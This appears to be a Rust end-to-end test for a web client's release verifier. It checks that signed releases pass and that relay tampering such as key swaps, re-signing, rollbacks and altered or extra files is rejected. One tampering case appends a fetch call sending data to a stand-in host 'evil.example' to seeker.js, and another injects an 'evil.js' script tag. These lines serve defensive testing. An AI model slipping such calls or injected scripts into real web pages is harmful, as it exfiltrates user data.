//! Issue 18: the web client's root of trust, with the real relay and the
//! real `northstar` binary. The administrator signs a release of the seeker
//! page (`admin web-release`); the relay serves it; `web verify` — the
//! transparency watcher — accepts it, and fails with a one-line reason for
//! each way a relay could cheat: a swapped organisation key, a release
//! re-signed by another key, a modified seeker.js, a modified WebAssembly
//! module, an added script, a missing file, an old release served back.
//! The relay never serves the counselor inbox.
//!
//! The WebAssembly module here is a stand-in file (the verifier compares
//! bytes, not behaviour), so this runs without the wasm build; the browser
//! suite runs the real module against the same checks in the page.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::path::Path;

use northstar_e2e::cli::Cli;
use northstar_e2e::{RelayProcess, workspace_root};

const ADMIN_PASS: &str = "admin passphrase 1\n";
const EVIL_PASS: &str = "someone else's passphrase\n";

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for e in std::fs::read_dir(from).unwrap() {
        let e = e.unwrap();
        let target = to.join(e.file_name());
        if e.file_type().unwrap().is_dir() {
            copy_dir(&e.path(), &target);
        } else {
            std::fs::copy(e.path(), &target).unwrap();
        }
    }
}

/// Replaces everything in the relay's web root with `dir`.
fn serve(relay: &RelayProcess, dir: &Path) {
    let _ = std::fs::remove_dir_all(&relay.web_root);
    copy_dir(dir, &relay.web_root);
}

/// The built web client as `admin web-release --from` expects it, with a
/// stand-in module.
fn site(dir: &Path) {
    let stat = workspace_root().join("web-client/static");
    for f in [
        "index.html",
        "seeker.js",
        "core.js",
        "worker.js",
        "relay.js",
        "keystore.js",
        "ui.js",
        "i18n.js",
        "style.css",
        "icon.svg",
        "counselor.html",
        "counselor.js",
    ] {
        std::fs::copy(stat.join(f), dir.join(f)).unwrap();
    }
    std::fs::create_dir_all(dir.join("pkg")).unwrap();
    std::fs::write(
        dir.join("pkg/northstar_web.js"),
        "export default function init() {}\n",
    )
    .unwrap();
    std::fs::write(
        dir.join("pkg/northstar_web_bg.wasm"),
        b"\0asm\x01\0\0\0stand-in",
    )
    .unwrap();
}

async fn release(admin: &Cli, from: &Path, out: &Path, pass: &str) {
    admin
        .ok(
            &[
                "--json",
                "admin",
                "web-release",
                "--from",
                from.to_str().unwrap(),
                "--out",
                out.to_str().unwrap(),
            ],
            pass,
        )
        .await;
}

/// Runs `web verify`; returns (ok, the one line on stderr or stdout).
async fn verify(cli: &Cli, url: &str, state: &Path) -> (bool, String) {
    let r = cli
        .run(
            &["web", "verify", url, "--state", state.to_str().unwrap()],
            "",
        )
        .await;
    let text = if r.ok { r.stdout } else { r.stderr };
    let lines: Vec<&str> = text.lines().filter(|l| !l.trim().is_empty()).collect();
    assert_eq!(lines.len(), 1, "one line expected: {text}");
    (r.ok, lines[0].to_owned())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_watcher_accepts_the_signed_release_and_catches_every_cheat() {
    let relay = RelayProcess::start(&[]).await.unwrap();
    let page = relay.url().replace("ws://", "http://").replace("/ws", "/");
    let tmp = tempfile::tempdir().unwrap();
    let home = tmp.path();
    let admin = Cli {
        relay: relay.url(),
        home: home.join("admin"),
        org: None,
    };
    let org = admin
        .ok(&["--json", "admin", "init"], &ADMIN_PASS.repeat(2))
        .await
        .json()["org_key"]
        .as_str()
        .unwrap()
        .to_owned();
    let watcher = Cli {
        relay: relay.url(),
        home: home.join("watcher"),
        org: Some(org.clone()),
    };
    let state = home.join("watcher-seen");
    let from = home.join("site");
    std::fs::create_dir_all(&from).unwrap();
    site(&from);

    // The first release, then a newer one (a release is named by its time).
    let old = home.join("release-old");
    release(&admin, &from, &old, ADMIN_PASS).await;
    tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
    let good = home.join("release");
    release(&admin, &from, &good, ADMIN_PASS).await;
    assert!(
        !good.join("counselor.html").exists(),
        "the inbox is not part of the seeker's release"
    );
    let text = std::fs::read_to_string(good.join(".well-known/northstar/release")).unwrap();
    assert!(text.contains(&format!("org {org}\n")));
    assert!(text.contains(&format!("relay {}\n", relay.url())));
    assert!(good.join(".well-known/webcat/manifest.json").exists());

    serve(&relay, &good);
    let (ok, line) = verify(&watcher, &page, &state).await;
    assert!(ok, "{line}");
    assert!(line.starts_with("ok: "), "{line}");
    // The relay sends the release's CSP, whose connect-src names the relay.
    let (status, head, _) = relay.http_get("/").await.unwrap();
    assert_eq!(status, 200);
    assert!(
        head.contains(&format!("connect-src 'self' {}", relay.url())),
        "{head}"
    );
    // The relay never serves the counselor inbox, even when its files are there.
    std::fs::copy(
        from.join("counselor.html"),
        relay.web_root.join("counselor.html"),
    )
    .unwrap();
    std::fs::copy(
        from.join("counselor.js"),
        relay.web_root.join("counselor.js"),
    )
    .unwrap();
    for p in ["/counselor.html", "/counselor.js"] {
        assert_eq!(relay.http_get(p).await.unwrap().0, 404, "{p}");
    }

    let cheat = |name: &str| {
        let dir = home.join(format!("cheat-{name}"));
        copy_dir(&good, &dir);
        dir
    };
    let other_key = {
        let evil = Cli {
            relay: relay.url(),
            home: home.join("evil"),
            org: None,
        };
        let k = evil
            .ok(&["--json", "admin", "init"], &EVIL_PASS.repeat(2))
            .await
            .json()["org_key"]
            .as_str()
            .unwrap()
            .to_owned();
        // The same code, released under the relay's own key.
        let dir = home.join("cheat-resigned");
        release(&evil, &from, &dir, EVIL_PASS).await;
        k
    };

    // 1. The organisation key swapped in the release (the old config.json attack).
    let d = cheat("swapped-key");
    let f = d.join(".well-known/northstar/release");
    let t = std::fs::read_to_string(&f)
        .unwrap()
        .replace(&org, &other_key);
    std::fs::write(&f, t).unwrap();
    serve(&relay, &d);
    let (ok, line) = verify(&watcher, &page, &state).await;
    assert!(!ok && line.contains("signature does not verify"), "{line}");

    // 2. A consistent release signed by another key: only a pinned key tells.
    serve(&relay, &home.join("cheat-resigned"));
    let (ok, line) = verify(&watcher, &page, &state).await;
    assert!(
        !ok && line.contains("signed by another organisation key"),
        "{line}"
    );

    // 3. A modified seeker.js.
    let d = cheat("seeker-js");
    let mut js = std::fs::read(d.join("seeker.js")).unwrap();
    js.extend_from_slice(b"\nfetch('https://evil.example/?c=' + 1);\n");
    std::fs::write(d.join("seeker.js"), js).unwrap();
    serve(&relay, &d);
    let (ok, line) = verify(&watcher, &page, &state).await;
    assert!(!ok && line.contains("modified file: /seeker.js"), "{line}");

    // 4. A modified WebAssembly module.
    let d = cheat("wasm");
    std::fs::write(d.join("pkg/northstar_web_bg.wasm"), b"\0asm\x01\0\0\0evil").unwrap();
    let _ = std::fs::remove_file(d.join("pkg/northstar_web_bg.wasm.gz"));
    serve(&relay, &d);
    let (ok, line) = verify(&watcher, &page, &state).await;
    assert!(
        !ok && line.contains("modified file: /pkg/northstar_web_bg.wasm"),
        "{line}"
    );

    // 5. An added script.
    let d = cheat("added-script");
    let html = std::fs::read_to_string(d.join("index.html"))
        .unwrap()
        .replace("</head>", "<script src=\"evil.js\"></script></head>");
    std::fs::write(d.join("index.html"), html).unwrap();
    std::fs::write(d.join("evil.js"), "console.log('evil')\n").unwrap();
    serve(&relay, &d);
    let (ok, line) = verify(&watcher, &page, &state).await;
    assert!(!ok && line.contains("extra file: /evil.js"), "{line}");

    // 6. A file of the release withheld.
    let d = cheat("missing");
    std::fs::remove_file(d.join("style.css")).unwrap();
    serve(&relay, &d);
    let (ok, line) = verify(&watcher, &page, &state).await;
    assert!(!ok && line.contains("missing file: /style.css"), "{line}");

    // 7. An old release served back: valid and signed, but older than one seen.
    serve(&relay, &old);
    let (ok, line) = verify(&watcher, &page, &state).await;
    assert!(!ok && line.contains("rollback"), "{line}");

    // And the real release passes again.
    serve(&relay, &good);
    let (ok, line) = verify(&watcher, &page, &state).await;
    assert!(ok, "{line}");
}
